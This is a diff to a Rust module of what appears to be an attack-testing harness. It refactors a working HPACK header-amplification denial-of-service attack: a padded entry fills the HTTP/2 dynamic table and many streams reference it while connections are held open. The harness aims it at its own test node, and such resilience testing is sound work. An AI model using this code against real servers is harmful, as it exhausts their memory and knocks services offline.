@@ -1,5 +1,7 @@
 //! Heads that are large where they are decoded, and small on the wire (RFC 7541, 6.1).
 
+use std::net::SocketAddr;
+
 use super::{Attack, Effort, Party, Stage};
 use crate::frames::{END_HEADERS, END_STREAM, HEADERS, HELLO, frame, request};
 use crate::origins;
@@ -34,41 +36,43 @@ fn prepare() -> Stage {
 
 fn run(stage: &Stage) -> Effort {
     let mut effort = Effort::default();
+    let bytes = repeated("origin.test", b"").len() as u64;
     for _ in 0..CONNECTIONS {
-        let mut raw = Raw::connect(stage.node.address("web"));
-        let mut bytes = HELLO.to_vec();
-        for number in 0..STREAMS {
-            let block = if number == 0 { first() } else { further() };
-            let stream = 2 * number + 1;
-            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
-        }
-
-        // The node may end the connection at any time.
-        raw.send_if_open(&bytes);
-        effort.bytes += bytes.len() as u64;
+        effort.hold(repeating(stage.node.address("web"), "origin.test", b""));
+        effort.bytes += bytes;
         effort.attempts += u64::from(STREAMS);
-        effort.hold(raw);
     }
 
     effort
 }
 
-/// A head that fills the table by one literal field with incremental indexing (RFC 7541, 6.2.1).
-fn first() -> Vec<u8> {
-    let mut block = request("GET", "origin.test", "/");
-    block.push(0x40);
-    block.extend([5]);
-    block.extend(b"x-pad");
-    // 127 and the rest in two groups of seven bits (RFC 7541, 5.1).
-    let rest = VALUE - 127;
-    block.extend([0x7f, 0x80 | (rest & 0x7f) as u8, (rest >> 7) as u8]);
-    block.extend([b'x'; VALUE]);
-    block
+/// A connection that asks this origin for 1000 heads of 60 KiB, with this field line, and acknowledges nothing.
+pub fn repeating(address: SocketAddr, origin: &str, line: &[u8]) -> Raw {
+    let mut raw = Raw::connect(address);
+    // The node may end the connection at any time.
+    raw.send_if_open(repeated(origin, line));
+    raw
 }
 
-/// One that refers to it: index 62 is the newest entry.
-fn further() -> Vec<u8> {
-    let mut block = request("GET", "origin.test", "/");
-    block.extend([0xbe; REFERENCES]);
-    block
+/// A first request that fills the table, and further ones that refer to its entry 15 times: index 62 is the newest (RFC 7541, 2.3.3).
+fn repeated(origin: &str, line: &[u8]) -> Vec<u8> {
+    let asked = [request("GET", origin, "/"), line.to_vec()].concat();
+    let mut bytes = HELLO.to_vec();
+    for number in 0..STREAMS {
+        let more = if number == 0 {
+            entry()
+        } else {
+            vec![0xbe; REFERENCES]
+        };
+        let block = [&asked[..], &more].concat();
+        let stream = 2 * number + 1;
+        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
+    }
+    bytes
+}
+
+/// A field line that becomes the only entry of a table of 4096 bytes, and fills it (RFC 7541, 6.2.1). Its length is 127 and the rest in two
+/// groups of seven bits (RFC 7541, 5.1).
+pub fn entry() -> Vec<u8> {
+    [b"\x40\x05x-pad\x7f\x9d\x1e".as_slice(), &[b'x'; VALUE]].concat()
 }
